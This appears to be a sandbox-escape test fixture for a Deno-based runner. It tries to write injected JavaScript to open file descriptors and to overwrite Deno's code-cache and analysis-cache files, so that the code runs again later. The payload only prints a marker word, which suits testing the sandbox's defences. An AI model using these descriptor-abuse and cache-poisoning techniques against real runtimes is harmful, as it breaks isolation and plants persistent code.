// Deno's caches are open in the process, and Node's interface writes on any descriptor whatever the
// permissions say (denoland/deno#33371). What is written there must die with the run. Run as code, it
// would print one word.
import fs from "node:fs";
import net from "node:net";
import "http://@OPEN@/code.ts";

const CODE = `console.log("ESC" + "APED");\n`;
const CACHES = ["node_analysis_cache_v2", "v8_code_cache_v2", "dep_analysis_cache_v2", "gen/x.js"];

export async function main() {
  for (let fd = 3; fd < 64; fd++) {
    try {
      fs.writeSync(fd, CODE);
    } catch {
      // Not this way.
    }
    try {
      const socket = new net.Socket({ fd, readable: false, writable: true } as any);
      socket.on("error", () => {}).write(CODE);
    } catch {
      // No socket.
    }
  }
  for (const folder of ["/run/dicode/cache", "@HOME@/.dicode/cache", "@HOME@/.cache/deno"]) {
    for (const cache of CACHES) {
      try {
        fs.writeFileSync(`${folder}/${cache}`, CODE);
      } catch {
        // Not granted.
      }
    }
  }
  await new Promise((resolve) => setTimeout(resolve, 100));
  return "tried";
}
